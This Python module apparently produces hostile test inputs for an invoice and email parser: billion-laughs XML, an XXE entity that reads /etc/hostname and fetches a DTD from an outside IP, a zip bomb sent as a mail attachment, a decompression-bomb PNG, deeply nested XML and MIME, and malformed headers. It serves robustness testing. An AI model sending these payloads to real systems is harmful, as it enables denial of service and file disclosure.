"""Hostile XML, archives, images and mails."""

import base64
import io
import struct
import zipfile
import zlib

HEAD = (
    b"From: x@lumelia.example\r\nTo: alice@maison.example\r\nDate: Mon, 02 Nov 2026 08:00:00"
    b" +0000\r\n"
)


def laughs() -> bytes:
    """Entities that multiply to three thousand million words."""
    lines = ['<!ENTITY a0 "facture ">']
    lines += [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)]
    return f'<?xml version="1.0"?>\n<!DOCTYPE Invoice [{"".join(lines)}]>\n<Invoice>&a9;</Invoice>\n'.encode()


def external_entity() -> bytes:
    """An entity that would read a file of the machine and one that would call a host."""
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY f SYSTEM "file:///etc/hostname">'
        b'<!ENTITY % d SYSTEM "http://198.51.100.7/x.dtd"> %d;]>\n'
        b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&f;</Invoice>\n'
    )


def deep_xml() -> bytes:
    """Twenty thousand elements inside one another."""
    return b"<Invoice>" + b"<a>" * 20_000 + b"</a>" * 20_000 + b"</Invoice>\n"


def bomb_zip(megabytes: int = 64) -> bytes:
    """A zip whose one member unpacks to `megabytes` of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        member = zipfile.ZipInfo("facture.pdf", (2026, 11, 2, 8, 0, 0))
        member.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(member, bytes(megabytes << 20))
    return out.getvalue()


def zip_mail() -> bytes:
    """A mail with that zip attached."""
    inside = base64.encodebytes(bomb_zip())
    return (
        HEAD + b"Subject: Facture\r\nMIME-Version: 1.0\r\nContent-Type: application/zip;"
        b" name=facture.zip\r\nContent-Transfer-Encoding: base64\r\n\r\n" + inside
    )


def giant_png() -> bytes:
    """A PNG that declares 60,000 by 60,000 pixels and holds a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    size = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    data = chunk(b"IDAT", zlib.compress(bytes(4096), 9))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + data + chunk(b"IEND", b"")


def nested_mail(depth: int = 400) -> bytes:
    """Multiparts inside multiparts, `depth` deep."""
    body = b"Content-Type: text/plain\r\n\r\nFacture 84,20 EUR\r\n"
    for level in range(depth):
        edge = b"b%d" % level
        body = b'Content-Type: multipart/mixed; boundary="%s"\r\n\r\n--%s\r\n%s\r\n--%s--\r\n' % (
            edge,
            edge,
            body,
            edge,
        )
    return HEAD + b"Subject: Poup\xc3\xa9es russes\r\nMIME-Version: 1.0\r\n" + body


def word_flood() -> bytes:
    """A subject of five thousand encoded words."""
    words = b"\r\n ".join([b"=?utf-8?b?RmFjdHVyZSA=?="] * 5_000)
    return HEAD + b"Subject: " + words + b"\r\n\r\nBonjour\r\n"


def broken_base64() -> bytes:
    """An attachment whose base64 is cut and holds letters that do not belong."""
    return (
        HEAD + b"Subject: Facture\r\nMIME-Version: 1.0\r\nContent-Type: application/pdf;"
        b" name=f.pdf\r\nContent-Transfer-Encoding:"
        b" base64\r\n\r\nJVBERi0xLjQKJ\xff\xfe!!!===ZOMi54gU\r\nmVwb3J0\x00TGFiIEdlbm\r\n"
    )


def no_charset() -> bytes:
    """A charset nobody knows, header bytes of two charsets, no date that can be read."""
    return (
        b"From: \xe9lectricit\xe9 <x@lumelia.example>\r\nSubject: =?x-unknown-9?q?Facture_=E9?="
        b" \xc3\xa9\r\nDate: le deux novembre\r\nContent-Type: text/plain;"
        b" charset=x-martian\r\n\r\nMontant : 84,20 \x80\r\n"
    )
